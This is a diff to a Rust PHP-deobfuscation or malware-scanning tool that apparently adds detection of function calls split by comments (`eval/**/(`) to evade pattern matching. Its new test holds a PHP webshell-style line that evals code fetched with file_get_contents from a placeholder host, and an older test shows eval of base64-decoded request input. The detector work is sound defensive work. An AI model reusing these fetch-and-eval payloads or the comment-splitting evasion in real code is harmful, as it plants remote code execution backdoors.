@@ -29,7 +29,8 @@
 //!   from a decoder call on variables (`gzinflate(base64_decode($x))`) has that call
 //!   written where it is read. "Once" is per scope (`Scopes`): each function has its
 //!   own variables, `global` imports the file's.
-//! - Comments are gone.
+//! - Comments are gone; a file that parts a function's name from its parenthesis with
+//!   one (`eval/**/(`) gets a view for that alone.
 //! - Code found in computed strings (what `eval` would run) is folded in turn and
 //!   appended, one payload a line, after the view.
 
@@ -92,7 +93,8 @@ fn fold_at(src: &[u8], depth: usize, budget: &mut Budget) -> Option<Vec<u8>> {
     // A double-quoted string spelled with escapes ("\x73\x79...") is already decoded.
     let mut changed = toks
         .iter()
-        .any(|t| matches!(t, Tok::Str(v, None) if interesting(v)));
+        .any(|t| matches!(t, Tok::Str(v, None) if interesting(v)))
+        || comment_split_call(src, &toks);
     let mut payloads: Vec<Vec<u8>> = Vec::new();
     let mut notes: Vec<Vec<u8>> = Vec::new();
     // Tainted arguments are marked once the constants have settled (a variable that
@@ -164,6 +166,30 @@ fn fold_at(src: &[u8], depth: usize, budget: &mut Budget) -> Option<Vec<u8>> {
         out.extend_from_slice(&n);
     }
     Some(out)
+}
+
+/// Whether a function's name is parted from its parenthesis by a comment
+/// (`eval/**/(`): written so to slip past patterns; the view, without comments, is
+/// worth matching.
+fn comment_split_call(src: &[u8], toks: &[Tok]) -> bool {
+    let mut name_end: Option<usize> = None;
+    for t in toks {
+        match t {
+            Tok::Ws(_) => {}
+            Tok::Op((s, e)) if &src[*s..*e] == b"(" => {
+                if name_end.is_some_and(|n| {
+                    let gap = &src[n..*s];
+                    contains(gap, b"/*") || contains(gap, b"//") || contains(gap, b"#")
+                }) {
+                    return true;
+                }
+                name_end = None;
+            }
+            Tok::Ident((_, e)) => name_end = Some(*e),
+            _ => name_end = None,
+        }
+    }
+    false
 }
 
 type Span = (usize, usize);
@@ -2327,6 +2353,19 @@ mod tests {
         assert!(v.contains("eval(base64_decode($_GP['eval']))"), "{v}");
         // Not reaching a command or code: no view.
         assert!(fold(b"<?php $s = base64_decode($x); echo $s;").is_none());
+    }
+
+    #[test]
+    fn calls_parted_by_comments_are_written_whole() {
+        let v = view(
+            "<?= @eval/****/(\"?>\".file_get_contents/**/(\"https://code.example.net/a.txt\")); ?>",
+        );
+        assert!(
+            v.contains("@eval ('?>'.file_get_contents ('https://code.example.net/a.txt'))"),
+            "{v}"
+        );
+        // A comment elsewhere is no reason for a view.
+        assert!(fold(b"<?php /* a */ foo(1); // b\n bar(/* c */ 2);").is_none());
     }
 
     #[test]
